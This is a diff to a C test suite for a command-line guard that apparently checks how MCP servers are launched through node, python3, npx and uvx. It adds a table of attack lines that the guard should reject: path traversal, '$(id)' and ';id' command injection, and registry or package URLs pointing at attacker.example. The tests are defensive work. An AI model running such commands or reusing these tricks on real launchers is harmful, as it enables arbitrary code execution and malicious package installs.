@@ -42,6 +42,9 @@ printable(const char *s)
 	return 1;
 }
 
+/* The operator lists the tables run with (test_policy covers NULL). */
+static struct guard_policy tp;
+
 struct tcase {
 	const char *line;
 	enum guard_verdict verdict;
@@ -337,8 +340,296 @@ static const struct tcase denied[] = {
 	{ "npx -y npx -y npx -y npx -y npx -y pkg", GUARD_TOO_DEEP, 8 },
 };
 
-/* The operator lists the tables run with (test_policy covers NULL). */
-static struct guard_policy tp;
+/* Attacks written from the grammar (docs/GUARD.md), run with tp: script
+ * paths, modules, indexes, package specs, command words. */
+static const struct tcase attacks[] = {
+	/* issue 13's script paths into libraries */
+	{ "node /usr/lib/node_modules/npm/bin/npx-cli.js -c id",
+	    GUARD_BAD_VALUE, 1 },
+	{ "python3 /usr/lib/python3.11/timeit.py -s x y", GUARD_BAD_VALUE, 1 },
+	{ "python3 -- /usr/lib/python3.11/timeit.py", GUARD_BAD_VALUE, 2 },
+	{ "uv run /usr/lib/python3.11/timeit.py", GUARD_BAD_VALUE, 2 },
+	{ "uv run --script /usr/lib/python3.11/timeit", GUARD_BAD_VALUE, 3 },
+	{ "npx -y node@20.1.0 /usr/lib/node_modules/npm/bin/npx-cli.js",
+	    GUARD_BAD_VALUE, 3 },
+	{ "uvx python /usr/lib/python3.11/timeit.py", GUARD_BAD_VALUE, 2 },
+	/* path tricks: canonical, absolute, on a component boundary */
+	{ "node /srv/../usr/lib/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/a/../../usr/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/./x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/.", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/..", GUARD_BAD_VALUE, 1 },
+	{ "node //srv/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv//x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/x.js/", GUARD_BAD_VALUE, 1 },
+	{ "node /srv", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/", GUARD_BAD_VALUE, 1 },
+	{ "node /", GUARD_BAD_VALUE, 1 },
+	{ "node /srvx/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /SRV/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node srv/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node ./x.js", GUARD_BAD_VALUE, 1 },
+	{ "node ~/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node .npm/_npx/1/node_modules/x/cli.js", GUARD_BAD_VALUE, 1 },
+	{ "node file:///srv/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/x\\y.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/x\xe2\x80\x8b.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/\xc0\xae\xc0\xae/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node /srv/x$(id).js", GUARD_BAD_VALUE, 1 },
+	{ "node /dev/stdin", GUARD_BAD_VALUE, 1 },
+	{ "node /proc/self/fd/0", GUARD_BAD_VALUE, 1 },
+	/* preloads are scripts too (a bare specifier is library code) */
+	{ "node --require /usr/lib/node_modules/npm/lib/cli.js /srv/x.js",
+	    GUARD_BAD_VALUE, 2 },
+	{ "node --import=./x.mjs /srv/x.js", GUARD_BAD_VALUE, 1 },
+	{ "node -r dotenv/config /srv/x.js", GUARD_BAD_VALUE, 2 },
+	{ "node --loader ts-node/esm /srv/x.js", GUARD_BAD_VALUE, 2 },
+	{ "node --import /srv/../x.mjs /srv/x.js", GUARD_BAD_VALUE, 2 },
+	/* modules: only --allow-module, exactly, never a code runner */
+	{ "python3 -m unittest pdb.set_trace", GUARD_FORBIDDEN_COMMAND, 2 },
+	{ "python3 -munittest code.interact", GUARD_FORBIDDEN_COMMAND, 1 },
+	{ "python3 -m pip install x", GUARD_FORBIDDEN_COMMAND, 2 },
+	{ "python3 -m ensurepip", GUARD_FORBIDDEN_COMMAND, 2 },
+	{ "python3 -m webbrowser http://x", GUARD_FORBIDDEN_COMMAND, 2 },
+	{ "python3 -m json.tool", GUARD_BAD_VALUE, 2 },
+	{ "python3 -m mcp_server_timex", GUARD_BAD_VALUE, 2 },
+	{ "python3 -m mcp_server_time.other", GUARD_BAD_VALUE, 2 },
+	{ "python3 -m MCP_SERVER_TIME", GUARD_BAD_VALUE, 2 },
+	{ "python3 -m mcp_server_time.", GUARD_BAD_VALUE, 2 },
+	{ "uv run -m unittest pdb.set_trace", GUARD_FORBIDDEN_COMMAND, 3 },
+	{ "uv run --with x==1 -m json.tool", GUARD_BAD_VALUE, 5 },
+	/* -W imports a dotted category's module */
+	{ "python3 -W ignore::pdb.Pdb /srv/x.py", GUARD_BAD_VALUE, 2 },
+	{ "python3 -Wignore::antigravity.X /srv/x.py", GUARD_BAD_VALUE, 1 },
+	{ "python3 -W a:b:c.d:e:1 /srv/x.py", GUARD_BAD_VALUE, 2 },
+	/* registries and indexes: only the exact --allow-index URLs */
+	{ "npx --registry https://attacker.example/ -y pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "npx --registry=https://attacker.example/ -y pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx --registry=https://registry.npmjs.org -y pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx --registry=HTTPS://REGISTRY.NPMJS.ORG/ -y pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx --registry=https://registry.npmjs.org/ --registry=https://a.example/"
+	    " -y pkg@1.0.0", GUARD_FORBIDDEN_OPTION, 2 },
+	{ "npx --registry", GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx --registry= -y pkg@1.0.0", GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx -registry=https://registry.npmjs.org/ pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx ---registry=https://registry.npmjs.org/ pkg@1.0.0",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "npx --reg=https://attacker.example/ pkg@1.0.0",
+	    GUARD_UNKNOWN_OPTION, 1 },
+	{ "npx --@scope:registry=https://attacker.example/ pkg@1.0.0",
+	    GUARD_UNKNOWN_OPTION, 1 },
+	{ "npx -y pkg@1.0.0 --registry=https://attacker.example/",
+	    GUARD_FORBIDDEN_OPTION, 3 },
+	{ "uvx --index-url https://attacker.example/simple "
+	    "mcp-server-fetch@2025.4.7", GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --index-url=https://attacker.example/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 1 },
+	{ "uvx -i https://attacker.example/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx -ihttps://attacker.example/simple tool", GUARD_UNKNOWN_OPTION,
+	    1 },
+	{ "uvx --index https://attacker.example/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --index pypi=https://pypi.org/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --extra-index-url https://attacker.example/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --default-index https://attacker.example/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --find-links https://attacker.example/ tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx -f /tmp/wheels tool", GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --index-url https://pypi.org/simple/ tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --index-url HTTPS://PYPI.ORG/simple tool",
+	    GUARD_FORBIDDEN_OPTION, 2 },
+	{ "uvx --index-url https://pypi.org/simple --index-url "
+	    "https://attacker.example/simple tool", GUARD_FORBIDDEN_OPTION, 4 },
+	{ "uvx --index-url= tool", GUARD_FORBIDDEN_OPTION, 1 },
+	{ "uv run --index-url https://attacker.example/simple --with x==1 t",
+	    GUARD_FORBIDDEN_OPTION, 3 },
+	{ "uv --index-url https://pypi.org/simple run t",
+	    GUARD_UNKNOWN_OPTION, 1 },
+	{ "uvx --index-ur https://pypi.org/simple tool",
+	    GUARD_UNKNOWN_OPTION, 1 },
+	{ "uvx --allow-insecure-host pypi.org tool", GUARD_FORBIDDEN_OPTION, 1 },
+	/* package specs: registry names and versions only */
+	{ "npx -y git+https://github.com/a/b.git", GUARD_BAD_VALUE, 2 },
+	{ "npx -y https://attacker.example/x.tgz", GUARD_BAD_VALUE, 2 },
+	{ "npx -y file:../x", GUARD_BAD_VALUE, 2 },
+	{ "npx -y x@npm:evil@1.0.0", GUARD_BAD_VALUE, 2 },
+	{ "npx -y npm:evil@1.0.0", GUARD_BAD_VALUE, 2 },
+	{ "npx -y a/b@1.0.0", GUARD_BAD_VALUE, 2 },
+	{ "npx -y @a/b/c@1.0.0", GUARD_BAD_VALUE, 2 },
+	{ "npx -y pkg@1.0.0@2", GUARD_BAD_VALUE, 2 },
+	{ "npx -y pkg@", GUARD_BAD_VALUE, 2 },
+	{ "npx -p git+ssh://x -- bin", GUARD_BAD_VALUE, 2 },
+	{ "npx --package=./local bin", GUARD_BAD_VALUE, 1 },
+	{ "uvx --from pkg@https://attacker.example/x.whl tool",
+	    GUARD_BAD_VALUE, 2 },
+	{ "uvx --from ./local tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from /tmp/pkg tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from pkg==1.0;python_version>'3' tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from pkg[x tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from pkg== tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from pkg==1.0, tool", GUARD_BAD_VALUE, 2 },
+	{ "uvx --from= tool", GUARD_BAD_VALUE, 1 },
+	{ "uvx --with git+https://attacker.example/r tool", GUARD_BAD_VALUE, 2 },
+	{ "uv run --with file:///tmp/x t", GUARD_BAD_VALUE, 3 },
+	{ "uv run --with x==1,git+https://attacker.example/r t",
+	    GUARD_BAD_VALUE, 3 },
+	{ "uvx https://attacker.example/x.whl", GUARD_BAD_VALUE, 1 },
+	{ "uvx git+https://attacker.example/r", GUARD_BAD_VALUE, 1 },
+	{ "uvx tool@git+https://attacker.example/r", GUARD_BAD_VALUE, 1 },
+	/* npx without a version runs /usr/bin/NAME first */
+	{ "npx sed 1e", GUARD_BAD_VALUE, 1 },
+	{ "npx -y sed", GUARD_BAD_VALUE, 2 },
+	{ "npx -y -- psql", GUARD_BAD_VALUE, 3 },
+	{ "npx -y @scope/x", GUARD_BAD_VALUE, 2 },
+	/* the command word after -p / --from / --with: a bin name */
+	{ "npx -p x@1.0.0 ../sed", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 /usr/bin/sed", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 sed;id", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 $(id)", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 .bin", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 sed@4", GUARD_BAD_VALUE, 3 },
+	{ "npx -p x@1.0.0 -- -c", GUARD_BAD_VALUE, 4 },
+	{ "npx -p x@1.0.0 node-gyp configure", GUARD_FORBIDDEN_COMMAND, 3 },
+	{ "npx -p x@1.0.0 SH -c id", GUARD_FORBIDDEN_COMMAND, 3 },
+	{ "npx -p x@1.0.0 Node -e 1", GUARD_INLINE_CODE, 4 },
+	{ "uv run --with x==1 ./psql", GUARD_BAD_VALUE, 4 },
+	{ "uv run --with x==1 /usr/bin/psql", GUARD_BAD_VALUE, 4 },
+	{ "uv run --with x==1 ps\xc2\xadql", GUARD_BAD_VALUE, 4 },
+	{ "uvx --from x==1 /usr/bin/psql", GUARD_BAD_VALUE, 3 },
+	{ "uvx --from x==1 -- -c", GUARD_BAD_VALUE, 4 },
+};
+
+/* The shapes the grammar keeps (tp allows /srv, the two modules, the
+ * PyPI and npm indexes). */
+static const struct tcase shapes_ok[] = {
+	{ "node --require=/srv/a.js --import /srv/b.mjs /srv/x.js", 0, 0 },
+	{ "node /srv/a-b_c+d@e%f=g,h~i.js", 0, 0 },
+	{ "node /srv/.hidden/x.js", 0, 0 },
+	{ "python3 -W ignore::DeprecationWarning /srv/x.py", 0, 0 },
+	{ "python3 -W error::UserWarning:mod.sub:3 /srv/x.py", 0, 0 },
+	{ "npx --registry=https://registry.npmjs.org/ -y pkg@1.0.0", 0, 0 },
+	{ "npx --registry https://registry.npmjs.org/ -y pkg@latest", 0, 0 },
+	{ "uvx --index-url=https://pypi.org/simple tool", 0, 0 },
+	{ "uvx -i https://pypi.org/simple -f https://pypi.org/simple tool",
+	    0, 0 },
+	{ "uvx --from pkg[cli,x]~=1.0,!=1.1.*,<2 tool", 0, 0 },
+	{ "uvx tool@1.2.3 --x", 0, 0 },
+	{ "npx -y -p left-pad@1.3.0 sed 1e FILE", 0, 0 },
+	{ "uv run --with left-pad==1.0 psql -c x", 0, 0 },
+	{ "npx -p x@1.0.0 -- tool-name.v2 --opt", 0, 0 },
+};
+
+/* path_lookup and the script list, for the runner */
+static void
+test_runner_facts(void)
+{
+	static const struct {
+		const char *line;
+		int path_lookup;
+		size_t nscripts, idx0, off0;
+	} facts[] = {
+		{ "npx -y -p left-pad@1.3.0 sed 1e FILE", 1, 0, 0, 0 },
+		{ "npx -y pkg@1.0.0 sed", 0, 0, 0, 0 },
+		{ "uvx tool@1.0.0", 1, 0, 0, 0 },
+		{ "uvx --from x==1 tool", 1, 0, 0, 0 },
+		{ "uv tool run tool", 1, 0, 0, 0 },
+		{ "uv run --with x==1 psql", 1, 0, 0, 0 },
+		{ "uv run /srv/x.py", 0, 1, 2, 0 },
+		{ "uv run --with x==1 python /srv/x.py", 1, 1, 5, 0 },
+		{ "node /srv/x.js", 0, 1, 1, 0 },
+		{ "node --require=/srv/a.js /srv/x.js", 0, 2, 1, 10 },
+		{ "python3 -m mcp_server_time", 0, 0, 0, 0 },
+		{ "npx -p x@1.0.0 node /srv/x.js", 1, 1, 4, 0 },
+	};
+	const char *argv[ARGS_MAX];
+	char buf[1024];
+	struct guard_result res;
+
+	for (size_t i = 0; i < sizeof facts / sizeof facts[0]; i++) {
+		size_t argc = split(facts[i].line, buf, sizeof buf, argv);
+		enum guard_verdict v = guard_check(&tp, argv, argc, &res);
+
+		ok(v == GUARD_OK && res.path_lookup == facts[i].path_lookup &&
+		    res.nscripts == facts[i].nscripts && (res.nscripts == 0 ||
+		    (res.scripts[0].index == facts[i].idx0 &&
+		    res.scripts[0].offset == facts[i].off0)),
+		    "facts: %s -> path_lookup %d, %zu scripts (got %s, %d, "
+		    "%zu)", facts[i].line, facts[i].path_lookup,
+		    facts[i].nscripts, guard_verdict_name(v), res.path_lookup,
+		    res.nscripts);
+	}
+}
+
+/* The operator's lists refuse what would widen the grammar. */
+static void
+test_policy_lists(void)
+{
+	static const char *const bad_dirs[] = {
+		"/", "/usr", "/usr/lib/python3.11", "/usr/local/lib",
+		"/lib", "/etc", "/proc", "/dev", "/opt/node", "/var/lib/x",
+		"/srv/", "srv", "/srv/../usr", "/srv/./x", "/srv//x", "",
+		"/home/u/node_modules/x", "/home/u/.npm", "/x/site-packages",
+		"/root/.pyenv/versions", "/x/dist-packages/y", "/x y",
+		"/run/user", "/x/_npx/1",
+	};
+	static const char *const bad_indexes[] = {
+		"", "pypi.org/simple", "https://x y", "https://x\x01",
+		"https://\xc3\xa9.example/",
+	};
+	static const char *const bad_modules[] = {
+		"", "a..b", "1a", "a.", ".a", "a-b", "a b", "os;x",
+	};
+	static char big[GUARD_ITEM_MAX + 2];
+	struct guard_policy p;
+	const char *why = NULL;
+	size_t i;
+	int all;
+
+	guard_policy_default(&p);
+	for (all = 1, i = 0; i < sizeof bad_dirs / sizeof bad_dirs[0]; i++)
+		all &= guard_policy_add(&p, GUARD_SCRIPT_DIR, bad_dirs[i],
+		    &why) == -1 && why != NULL;
+	ok(all && p.nscript_dirs == 0, "system, library and non-canonical "
+	    "script dirs are refused");
+	for (all = 1, i = 0; i < sizeof bad_indexes / sizeof bad_indexes[0];
+	    i++)
+		all &= guard_policy_add(&p, GUARD_INDEX, bad_indexes[i],
+		    &why) == -1;
+	ok(all && p.nindexes == 0, "indexes that are not printable URLs are "
+	    "refused");
+	for (all = 1, i = 0; i < sizeof bad_modules / sizeof bad_modules[0];
+	    i++)
+		all &= guard_policy_add(&p, GUARD_MODULE, bad_modules[i],
+		    &why) == -1;
+	ok(all && p.nmodules == 0, "modules that are not dotted names are "
+	    "refused");
+	memset(big, 'a', sizeof big - 1);
+	big[0] = '/';
+	ok(guard_policy_add(&p, GUARD_SCRIPT_DIR, big, &why) == -1 &&
+	    guard_policy_add(&p, GUARD_INDEX, NULL, &why) == -1,
+	    "over-long and missing values are refused");
+	for (all = 1, i = 0; i < GUARD_LIST_MAX; i++)
+		all &= guard_policy_add(&p, GUARD_MODULE, "m", &why) == 0;
+	ok(all && guard_policy_add(&p, GUARD_MODULE, "m", &why) == -1 &&
+	    p.nmodules == GUARD_LIST_MAX, "a list holds 16 entries, no more");
+	ok(guard_policy_add(&p, GUARD_SCRIPT_DIR, "/srv/mcp-tools", &why) ==
+	    0 && guard_policy_add(&p, GUARD_INDEX,
+	    "https://pypi.org/simple", &why) == 0,
+	    "a plain dir and a URL are accepted");
+	ok(guard_policy_add(&p, (enum guard_list)7, "x", &why) == -1,
+	    "an unknown list is refused");
+}
+
 
 static void
 run_table(const struct tcase *t, size_t n, const char *label)
@@ -658,7 +949,9 @@ main(void)
 	guard_policy_default(&tp);
 	if (guard_policy_add(&tp, GUARD_SCRIPT_DIR, "/srv", &why) ||
 	    guard_policy_add(&tp, GUARD_INDEX, "https://pypi.org/simple",
-	    &why) || guard_policy_add(&tp, GUARD_MODULE, "mcp_server_time",
+	    &why) || guard_policy_add(&tp, GUARD_INDEX,
+	    "https://registry.npmjs.org/", &why) ||
+	    guard_policy_add(&tp, GUARD_MODULE, "mcp_server_time",
 	    &why) || guard_policy_add(&tp, GUARD_MODULE,
 	    "mcp_server_time.main", &why))
 		abort();
@@ -671,5 +964,9 @@ main(void)
 	test_pinned();
 	test_names();
 	test_normalised();
+	run_table(attacks, sizeof attacks / sizeof attacks[0], "attack");
+	run_table(shapes_ok, sizeof shapes_ok / sizeof shapes_ok[0], "shape");
+	test_runner_facts();
+	test_policy_lists();
 	return tap_done();
 }
